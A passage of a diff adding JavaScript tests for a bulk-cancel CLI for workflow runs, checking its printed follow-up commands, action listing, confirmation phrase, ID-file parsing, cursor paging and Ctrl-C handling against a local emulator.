+  const json = JSON.parse(some.stdout);
+  assert.deepEqual([json.cancelled, json.asked], [2, 3]);
+  assert.match(json.message, /^Cancelled 2 of 3 runs asked .*\nThe other one was not active/);
+  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
+});
+
+test('started through npx, the printed follow-up command runs through npx too, from a shell without the package on PATH', async () => {
+  const token = await account();
+  const env = { PATH: process.env.PATH, HOME: process.env.HOME, QSTASH_TOKEN: token, QSTASH_URL: emulator.url };
+  // Not execFileSync: the emulator answers from this process's event loop.
+  const run = promisify(execFile);
+  const { stdout: started } = await run('npx', ['--no-install', 'qstash-cancel', '--label', 'nightly', '--async', '--yes'], { cwd: app, env });
+  const [, command] = /Follow it with: (.*)\n/.exec(started);
+  assert.match(command, /^npx qstash-cancel watch ba_\S+$/);
+  const { stdout: watched } = await run('sh', ['-c', command], { cwd: app, env });
+  assert.match(watched, /^Bulk action ba_\S+ finished: 2 of 2 runs processed/);
+});
+
+test('actions lists newest first, takes --state in any case, and says why one filter cancel shows as several actions', async () => {
+  const token = await account();
+  const at = Date.now() - 60_000;
+  const action = (id, createdAt, state) => ({
+    actionId: id, kind: 'cancel', state, total: 1, processed: state === 'FINISHED' ? 1 : 0, createdAt,
+    completedAt: state === 'FINISHED' ? createdAt + 1 : null, filter: { label: ['x'] },
+  });
+  await seedActions(emulator.url, token, [action('ba_old', at, 'FINISHED'), action('ba_new', at + 2_000, 'IN_PROGRESS'), action('ba_mid', at + 1_000, 'FINISHED')]);
+  const table = await cli(['actions'], { token });
+  assert.equal(table.code, 0, table.stderr);
+  assert.deepEqual(table.stdout.split('\n').slice(1, 4).map((line) => line.split(' ')[0]), ['ba_new', 'ba_mid', 'ba_old']);
+  assert.match(table.stdout, /\nNewest first\. A filter or --all cancel repeats in passes until one cancels nothing, and each pass is one bulk action: one command can show as several\.\n$/);
+  for (const state of ['IN_PROGRESS', 'in_progress', 'In-Progress']) {
+    const { code, stdout, stderr } = await cli(['actions', '--state', state, '--json'], { token });
+    assert.equal(code, 0, stderr);
+    assert.deepEqual(JSON.parse(stdout).bulkActions.map((a) => a.actionId), ['ba_new'], state);
+  }
+  assert.equal(JSON.parse((await cli(['actions', '--state', 'FINISHED', '--json'], { token })).stdout).bulkActions.length, 2);
+});
+
+test('the phrase for --all stays case-sensitive, and a refusal says why', async () => {
+  const token = await account();
+  const cases = [
+    ['Cancel Every Run\n', /\nNot confirmed: the phrase is case-sensitive; type "cancel every run" exactly, in lower case\. Nothing was sent\.\n$/],
+    ['yes\n', /\nNot confirmed: "yes" is not the phrase "cancel every run"\. Nothing was sent\.\n$/],
+    ['\x1b[2Jcancel\n', /\nNot confirmed: "\\x1b\[2Jcancel" is not the phrase "cancel every run"\. Nothing was sent\.\n$/],
+    ['', /\nNot confirmed: no phrase was typed\. Nothing was sent\.\n$/],
+  ];
+  for (const [stdin, why] of cases) {
+    const { code, stderr } = await cli(['--all'], { token, stdin });
+    assert.equal(code, 3, stderr);
+    assert.match(stderr, why, JSON.stringify(stdin));
+  }
+  assert.equal((await getLog(emulator.url, token)).length, 0);
+});
+
+test('--ids-from reads a JSON array and CSV quoting, refuses a file it cannot read right with the line, and names --ids-from', async () => {
+  const read = async (name, bytes, stdin) => {
+    const token = await account();
+    if (bytes !== undefined) writeFileSync(join(work, name), bytes);
+    const result = await cli(['--ids-from', stdin === undefined ? name : '-'], { token, stdin });
+    return { ...result, cancelled: await cancelledIds(emulator.url, token), sent: (await getLog(emulator.url, token)).length };
+  };
+  for (const [name, text, want] of [
+    ['ids.json', '[\n  "c1",\n  "c2"\n]\n', ['c1', 'c2']],
+    ['ids.csv', '"c1","c3"\n"c2"\n', ['c1', 'c2', 'c3']],
+    ['bom.txt', '\ufeffc2\nc3\n', ['c2', 'c3']],
+  ]) {
+    const { code, stderr, cancelled } = await read(name, text);
+    assert.equal(code, 0, `${name}: ${stderr}`);
+    assert.deepEqual(cancelled, want, name);
+  }
+  const piped = await read('-', undefined, '["c3"]');
+  assert.deepEqual([piped.code, piped.cancelled], [0, ['c3']]);
+  const refusals = [
+    ['latin1.txt', Buffer.from('c1\nr\xe9sum\xe9\n', 'latin1'), /^Refused \(INVALID_OPTIONS\): --ids-from: latin1\.txt line 2 is not UTF-8 \(a Latin-1 or Windows-1252 file\?\): save it as UTF-8\n/],
+    ['utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('c1\nc2\n', 'utf16le')]), /^Refused \(INVALID_OPTIONS\): --ids-from: utf16\.txt is UTF-16 \(or not text\): save it as UTF-8\n/],
+    ['open.csv', 'c1\n"c2,c3\n', /^Refused \(INVALID_OPTIONS\): --ids-from: open\.csv line 2: a quote is not closed\n/],
+    ['python.txt', "['c1', 'c2']\n", /^Refused \(INVALID_OPTIONS\): --ids-from: python\.txt starts with \[ but is not a JSON array of strings/],
+    ['numbers.json', '["c1", 2]', /^Refused \(INVALID_OPTIONS\): --ids-from: numbers\.json item 2 of the JSON array is not a string\n/],
+    ['space.csv', 'c1\n"c 2"\n', /^Refused \(INVALID_OPTIONS\): --ids-from: space\.csv line 2: must /],
+    // The library refuses bidi controls in ids, naming no item: the file is named, not --id.
+    ['bidi.txt', 'ab\u202ecd\n', /^Refused \(INVALID_OPTIONS\): --ids-from: bidi\.txt: must not contain invisible or bidirectional formatting characters/],
+  ];
+  for (const [name, bytes, why] of refusals) {
+    const { code, stderr, sent } = await read(name, bytes);
+    assert.equal(code, 2, `${name}: ${stderr}`);
+    assert.match(stderr, why, name);
+    assert.equal(sent, 0, name);
+  }
+});
+
+test('actions that stop on an endless cursor list what they read and print a --cursor command that lists on from there', async () => {
+  const token = await account();
+  const page = (i) => ({ status: 200, body: { bulkActions: i === 0 ? [{ actionId: 'ba_first', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: Date.now(), completedAt: Date.now(), filter: {} }] : [], cursor: `c${i + 1}` } });
+  await injectFaults(emulator.url, token, Array.from({ length: 1_000 }, (_, i) => page(i)));
+  const stopped = await cli(['actions', '--state', 'finished'], { token });
+  assert.equal(stopped.code, 8, stopped.stderr);
+  assert.match(stopped.stdout, /\nba_first +FINISHED/);
+  const [, command] = /\nTo list on from there:\n {2}(.*)\n$/.exec(stopped.stderr) ?? [];
+  assert.match(command ?? stopped.stderr, / actions --state finished --cursor c1000$/);
+  await seedActions(emulator.url, token, Array.from({ length: 1_001 }, (_, i) => ({ actionId: `ba_${i}`, kind: 'cancel', state: 'FINISHED', total: 0, processed: 0, createdAt: Date.now(), completedAt: Date.now(), filter: {} })));
+  const { stdout } = await promisify(execFile)('sh', ['-c', command], { cwd: work, env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url } });
+  assert.match(stdout, /^ACTION ID .*\nba_1000 /, 'listed on from the 1,000th action');
+  assert.equal((await getLog(emulator.url, token)).at(-1).query, '?cursor=c1000&state=FINISHED');
+  const refused = await cli(['--label', 'x', '--cursor', 'c1', '--yes'], { token });
+  assert.equal(refused.code, 2);
+  assert.match(refused.stderr, /^Refused \(INVALID_OPTIONS\): --cursor: applies to actions only/);
+});
+
+test('Ctrl-C stops watch, not the bulk action, and says so with what it last saw', async () => {
+  const token = await account(bulk('w', 200).map((id) => ({ id, workflowUrl: 'https://app.test/api/w', label: 'w' })));
+  await setBulkSpeed(emulator.url, token, { perTick: 1, tickMs: 200 });
+  const started = await cli(['--label', 'w', '--async', '--yes', '--json'], { token });
+  const { actionId } = JSON.parse(started.stdout);
+  let sent = false;
+  const { code, stderr } = await spawnCli(['watch', actionId, '--poll', '100'], token, (child, text) => {
+    if (!sent && /processed · IN_PROGRESS/.test(text)) {
+      sent = true;
+      child.kill('SIGINT');
+    }
+  });
+  assert.equal(code, 130, stderr);
+  assert.match(stderr, new RegExp(`\\nStopped watching by Ctrl-C \\(SIGINT\\) \\(ABORTED\\): bulk action ${actionId} goes on in the service \\(last seen: \\d+ of 200 runs processed\\)\\.\\n$`));
 });
